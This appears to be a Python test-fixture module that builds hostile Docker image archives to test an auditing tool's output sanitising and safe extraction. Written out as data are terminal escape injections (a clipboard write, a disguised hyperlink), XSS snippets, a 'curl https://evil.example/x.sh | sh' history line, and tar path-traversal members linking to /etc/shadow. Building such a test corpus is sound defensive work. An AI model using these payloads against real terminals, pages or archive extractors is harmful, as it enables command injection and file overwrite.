"""The hostile-data corpus: saved images whose labels, env, history and file names attack the presentation.

Two archives are built by hand (classic `docker save` layout), byte for byte:
- `loadable_archive()`: what an attacker can push to a registry and the engine accepts (`docker load`):
  escape sequences and markup everywhere, a 1 MB label, 10,000 env entries, 121 layers, invalid UTF-8
  file names, symlink loops, absolute symlinks, hardlinks and a sparse file.
- `archive_only()`: what only a crafted tarball can carry (`dockaudit scan evil.tar` reads it without an
  engine): 300 layers, `../` and absolute member names, hardlinks out of the layer, a 100 GiB sparse file,
  a lone surrogate in a label.
"""

from __future__ import annotations

import hashlib
import io
import json
import re
import subprocess
import tarfile
import tempfile
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import docker
import docker.errors

from tests.fixtures.images import TEST_LABEL

OSC52 = "\x1b]52;c;ZWNobyBoYWNrZWQ=\x07"
"""Writes `echo hacked` to the clipboard of a terminal that obeys it."""
OSC8 = "\x1b]8;;https://evil.example/\x07click me\x1b]8;;\x07"
"""A hyperlink whose text hides its target."""
CLEAR = "\x1b[2J\x1b[H\x1b[10A"
"""Clear the screen, cursor home, cursor up ten lines."""
SGR = "\x1b[5;31;47mBLINK\x1b[0m"
"""A style no dockaudit output uses itself (blinking red on white)."""
CSI8 = "\x9b6n"
"""The 8-bit CSI form of a cursor-position query."""
SCRIPT = "<script>document.body.setAttribute('data-pwned','yes')</script>"
IMG = "<img src=x onerror=\"document.title='pwned'\">"
MARKUP = "[link=https://evil.example]rich markup[/link] | a | b | **bold** `code`"
BIDI = "\u202egnp.exe"
CONTROL = "bell\x07back\x08space\rCR\x00nul\x7fdel"

PAYLOADS: tuple[str, ...] = (OSC52, OSC8, CLEAR, SGR, CSI8, SCRIPT, IMG, MARKUP, BIDI, CONTROL)
EVIL = " ".join(PAYLOADS)
"""Every payload in one string."""

RAW_TERMINAL = ("\x1b]", "\x07", "\x9b", "\x1b[2J", "\x1b[H", "\x1b[10A", "\x1b[5;31;47m", "\u202e", "\x00", "\x08")
"""Sequences that must never reach a terminal or a text report raw."""

BIG_LABEL_SIZE = 1024 * 1024
ENV_COUNT = 10_000
LOADABLE_LAYERS = 121
"""More than 120, and under overlay2's limit of 125 stacked layers for `docker load`."""
ARCHIVE_LAYERS = 300
SPARSE_LOADED = 64 * 1024 * 1024
SPARSE_HUGE = 100 * 1024**3
ESCAPE_NAME = "dockaudit-hostile-escape"
"""Base name of every `../` or absolute tar member: no file of that name may ever appear."""

_MTIME = 1_700_000_000


@dataclass(frozen=True)
class Member:
    """One tar member: `name` may hold lone surrogates (written as the raw bytes they stand for)."""

    name: str
    kind: str = "file"
    data: bytes = b""
    mode: int = 0o644
    link: str = ""


def layer_tar(members: Iterable[Member]) -> bytes:
    """A GNU-format layer tar; undecodable names go out as their raw bytes (`surrogateescape`)."""
    types = {"file": tarfile.REGTYPE, "dir": tarfile.DIRTYPE, "symlink": tarfile.SYMTYPE, "hardlink": tarfile.LNKTYPE}
    buf = io.BytesIO()
    with tarfile.open(
        fileobj=buf, mode="w", format=tarfile.GNU_FORMAT, encoding="utf-8", errors="surrogateescape"
    ) as tar:
        for m in members:
            info = tarfile.TarInfo(m.name)
            info.type = types[m.kind]
            info.mode = m.mode
            info.mtime = _MTIME
            info.linkname = m.link
            if m.kind == "file":
                info.size = len(m.data)
                tar.addfile(info, io.BytesIO(m.data))
            else:
                tar.addfile(info)
    return buf.getvalue()


def sparse_layer_tar(name: str, real_size: int) -> bytes:
    """A layer tar with one PAX (GNU 1.0) sparse member: 4 KiB of data, then a hole up to `real_size` bytes."""
    with tempfile.TemporaryDirectory(prefix="dockaudit-sparse-") as tmp:
        path = Path(tmp) / "root" / name
        path.parent.mkdir(parents=True)
        with path.open("wb") as handle:
            handle.write(b"S" * 4096)
            handle.truncate(real_size)
        proc = subprocess.run(
            [
                "tar",
                "--sparse",
                "--format=posix",
                "--pax-option=delete=atime,delete=ctime,exthdr.name=%d/PaxHeaders/%f",
                "--owner=0",
                "--group=0",
                f"--mtime=@{_MTIME}",
                "-cf",
                "-",
                "-C",
                str(Path(tmp) / "root"),
                name,
            ],
            capture_output=True,
            check=True,
            timeout=120,
        )
    return _fixed_sparse_names(proc.stdout)


def _fixed_sparse_names(data: bytes) -> bytes:
    """GNU tar names the member `GNUSparseFile.<pid>`: fix the pid to 0 so the archive is reproducible."""
    out = bytearray(data)
    for offset in range(0, len(out) - 511, 512):
        block = out[offset : offset + 512]
        if block[257:262] != b"ustar" or b"GNUSparseFile." not in block[:100]:
            continue
        name = re.sub(rb"GNUSparseFile\.\d+", b"GNUSparseFile.0", bytes(block[:100]).rstrip(b"\0"))
        block[:100] = name.ljust(100, b"\0")
        block[148:156] = b" " * 8
        block[148:156] = f"{sum(block):06o}\0 ".encode()
        out[offset : offset + 512] = block
    return bytes(out)


def _digest(data: bytes) -> str:
    return "sha256:" + hashlib.sha256(data).hexdigest()


def _add(tar: tarfile.TarFile, name: str, data: bytes) -> None:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    info.mtime = _MTIME
    tar.addfile(info, io.BytesIO(data))


def saved_image(
    blobs: Sequence[bytes], config: dict[str, Any], tags: Sequence[str], extra: Sequence[tuple[str, bytes]] = ()
) -> bytes:
    """A `docker save` archive (classic layout) of `blobs` with `config` (diff IDs filled in)."""
    config = {**config, "rootfs": {"type": "layers", "diff_ids": [_digest(b) for b in blobs]}}
    config_blob = json.dumps(config).encode()
    config_name = hashlib.sha256(config_blob).hexdigest() + ".json"
    dirs = [hashlib.sha256(b"hostile" + i.to_bytes(4, "big")).hexdigest() for i in range(len(blobs))]
    manifest = [{"Config": config_name, "RepoTags": list(tags), "Layers": [f"{d}/layer.tar" for d in dirs]}]
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as tar:
        for d, blob in zip(dirs, blobs, strict=True):
            _add(tar, f"{d}/VERSION", b"1.0")
            _add(tar, f"{d}/json", b"{}")
            _add(tar, f"{d}/layer.tar", blob)
        _add(tar, config_name, config_blob)
        for name, data in extra:
            _add(tar, name, data)
        _add(tar, "manifest.json", json.dumps(manifest).encode())
    return buf.getvalue()


def _history(layers: int, lines: Sequence[str]) -> list[dict[str, Any]]:
    """One history line per layer (cycling through `lines`), plus empty-layer ENV/LABEL steps."""
    out: list[dict[str, Any]] = [
        {"created": "2026-11-01T00:00:00Z", "created_by": f"/bin/sh -c #(nop)  LABEL x={EVIL}", "empty_layer": True}
    ]
    for i in range(layers):
        out.append({"created": "2026-11-01T00:00:00Z", "created_by": lines[i % len(lines)] + f" # step {i}"})
    return out


HISTORY_LINES: tuple[str, ...] = (
    f"/bin/sh -c echo {OSC52} > /dev/null",
    f"/bin/sh -c echo '{SCRIPT}' && curl https://evil.example/x.sh | sh",
    f"|1 EVIL={CLEAR} /bin/sh -c echo {SGR}",
    f"/bin/sh -c #(nop) COPY file:{OSC8} in /app/{BIDI} ",
    f"/bin/sh -c chmod 777 /app && echo {MARKUP} {CSI8} {CONTROL}",
)


def _config(layers: int, labels: dict[str, str], env: list[str], user: str) -> dict[str, Any]:
    return {
        "architecture": "amd64",
        "os": "linux",
        "created": "2026-11-01T00:00:00Z",
        "config": {
            "User": user,
            "Env": env,
            "Labels": labels,
            "Cmd": ["/bin/busybox", "sh", "-c", f"echo {OSC52}; sleep 3600"],
            "WorkingDir": "/app",
            "ExposedPorts": {"8080/tcp": {}},
        },
        "history": _history(layers, HISTORY_LINES),
    }


def hostile_labels() -> dict[str, str]:
    """Every payload as a label value and in a label name, plus a 1 MB label."""
    labels = {f"evil.{i}": payload for i, payload in enumerate(PAYLOADS)}
    labels[f"evil.name{OSC52}{SCRIPT}"] = "value"
    labels["evil.big"] = "B" * BIG_LABEL_SIZE
    labels[TEST_LABEL] = "1"
    return labels


def hostile_env() -> list[str]:
    """10,000 entries, some with payloads in the name and the value."""
    env = ["PATH=/usr/local/bin:/usr/bin:/bin", f"EVIL={EVIL}", f"EVIL_{OSC8}_NAME=x"]
    env += [f"FILLER_{i}=value-{i}" for i in range(ENV_COUNT - len(env))]
    return env


INVALID_UTF8_NAME = "app/bad-\udcff\udcfe-\udcc3("
"""`app/bad-<FF FE C3 28>`: four bytes that are not UTF-8."""


def _files_layer() -> list[Member]:
    return [
        Member("etc/", "dir", mode=0o755),
        Member("etc/passwd", data=b"root:x:0:0:root:/root:/bin/sh\n"),
        Member("etc/os-release", data=b'ID=debian\nVERSION_ID="12"\nPRETTY_NAME="Debian 12 ' + OSC52.encode() + b'"\n'),
        Member("app/", "dir", mode=0o755),
        Member(f"app/{OSC52}{SCRIPT}", data=b"x", mode=0o4755),
        Member(f"app/{CLEAR}{BIDI}.sh", data=b"#!/bin/sh\n", mode=0o777),
        Member(f"app/{SGR}/", "dir", mode=0o777),
        Member(f"app/{SGR}/.env", data=b"APP_MODE=hostile-corpus\n", mode=0o600),
        Member(INVALID_UTF8_NAME, data=b"#!/bin/sh\n", mode=0o4755),
        Member("app/\udcff\udcfe/", "dir", mode=0o777),
        Member("app/loop/", "dir", mode=0o755),
        Member("app/loop/a", "symlink", link="b"),
        Member("app/loop/b", "symlink", link="a"),
        Member("app/loop/self", "symlink", link="self"),
        Member("app/loop/up", "symlink", link="../loop/up"),
        Member("app/shadow", "symlink", link="/etc/shadow"),
        Member("app/root", "symlink", link="/"),
        Member("app/far", "symlink", link="../../../../../../../../etc/passwd"),
        Member(f"app/{OSC8}", "symlink", link=f"/{OSC52}"),
        Member("app/real", data=b"shared content\n", mode=0o4755),
        Member("app/hard", "hardlink", link="app/real"),
        Member(f"app/hard{CSI8}", "hardlink", link="app/real"),
    ]


def _filler_layer(i: int) -> list[Member]:
    return [Member(f"app/layers/{i:03d}-{OSC52 if i % 7 == 0 else 'plain'}", data=f"{i}\n".encode())]


def loadable_archive(tag: str) -> bytes:
    """The hostile image the engine accepts: `docker load` it, then audit it by `tag`."""
    blobs = [layer_tar(_files_layer())]
    blobs += [layer_tar(_filler_layer(i)) for i in range(LOADABLE_LAYERS - len(blobs))]
    config = _config(len(blobs), hostile_labels(), hostile_env(), "")
    return saved_image(blobs, config, [tag])


def sparse_archive(tag: str) -> bytes:
    """An image with a 64 MiB sparse file: the engine loads it but cannot export it again (`docker save`
    fails to verify the layer it wrote out in full), so its audit records a `layers` failure."""
    blobs = [layer_tar(_files_layer()[:3]), sparse_layer_tar("app/sparse.img", SPARSE_LOADED)]
    config = _config(len(blobs), {TEST_LABEL: "1", "evil": EVIL}, ["PATH=/bin"], "")
    return saved_image(blobs, config, [tag])


ARCHIVE_ESCAPES = (
    f"../../../../../../../../tmp/{ESCAPE_NAME}-file",
    f"/tmp/{ESCAPE_NAME}-absolute",
    f"app/../../../{ESCAPE_NAME}-dotdot",
    f"./../{ESCAPE_NAME}-dot",
)


def archive_only(tag: str = "dockaudit-test/hostile-archive:1") -> bytes:
    """A tarball no engine would load: `../` and absolute members, outward links, a 100 GiB sparse file."""
    escapes = [Member(name, data=b"escaped\n", mode=0o4755) for name in ARCHIVE_ESCAPES]
    escapes += [
        Member(f"../{ESCAPE_NAME}-symlink", "symlink", link="/etc/shadow"),
        Member(f"../../{ESCAPE_NAME}-hardlink", "hardlink", link="../../../../etc/passwd"),
        Member("app/missing-hard", "hardlink", link="no/such/file"),
        Member("app/self-hard", "hardlink", link="app/self-hard"),
    ]
    blobs = [layer_tar(_files_layer()), layer_tar(escapes), sparse_layer_tar("app/huge.img", SPARSE_HUGE)]
    blobs += [layer_tar(_filler_layer(i)) for i in range(ARCHIVE_LAYERS - len(blobs))]
    labels = hostile_labels()
    config = _config(len(blobs), labels, hostile_env(), f"app{SGR}")
    # JSON may spell a lone surrogate (`\ud800`), which no UTF-8 output can encode.
    text = json.dumps(config).replace('"evil.0"', '"evil.surrogate": "\\udfff\\ud800-\\udc80", "evil.0"', 1)
    text = text.replace('"User": "app', '"User": "\\udfff\\ud800app', 1)
    return saved_image(blobs, json.loads(text), [tag], extra=[(f"../../{ESCAPE_NAME}-outer", b"outer\n")])


_ESCAPE_SEQUENCE = re.compile(r"\x1b(\[[0-?]*[ -/]*[@-~]|\][^\x07\x1b]*(\x07|\x1b\\)?|.)")
_ALLOWED_SEQUENCE = re.compile(r"\x1b\[(\d+(;\d+)*)?m|\x1b\[\?25[lh]|\x1b\[2K|\x1b\[1A|\x1b\[1G|\x1b\[\d*[CD]")
"""What rich itself writes: SGR colours, and its live display's hide/show cursor, erase line and moves."""


def foreign_sequences(output: str) -> list[str]:
    """Escape sequences in terminal output that are not rich's own styling and cursor handling."""
    found = [m.group(0) for m in _ESCAPE_SEQUENCE.finditer(output)]
    bad = [s for s in found if not _ALLOWED_SEQUENCE.fullmatch(s)]
    bad += [ch for ch in ("\x07", "\x9b", "\x00", "\x08", "\u202e") if ch in output]
    if "\x1b[5;31;47m" in output:
        bad.append("\x1b[5;31;47m")
    return bad


def raw_leaks(text: str) -> list[str]:
    """Hostile sequences found raw in a text document (which holds no escape sequences of its own)."""
    return [seq for seq in RAW_TERMINAL if seq in text] + (["\x1b"] if "\x1b" in text else [])


def escape_marker_paths(*roots: Path) -> list[Path]:
    """Every file or link named like a `../` member under `roots` (recursively) and in /tmp: none may exist."""
    found = list(Path("/tmp").glob(f"{ESCAPE_NAME}*"))
    for root in roots:
        found += root.glob(f"**/{ESCAPE_NAME}*")
    return found


def load_image(client: docker.DockerClient, name: str, build: Callable[[str], bytes]) -> str:
    """`docker load` the archive `build(tag)` makes, as `dockaudit-test/NAME:<content hash>`; reused when present."""
    probe = build(f"dockaudit-test/{name}:probe")
    tag = f"dockaudit-test/{name}:{hashlib.sha256(probe).hexdigest()[:12]}"
    try:
        client.api.inspect_image(tag)
        return tag
    except docker.errors.ImageNotFound:
        pass
    client.api.load_image(build(tag))
    client.api.inspect_image(tag)
    return tag
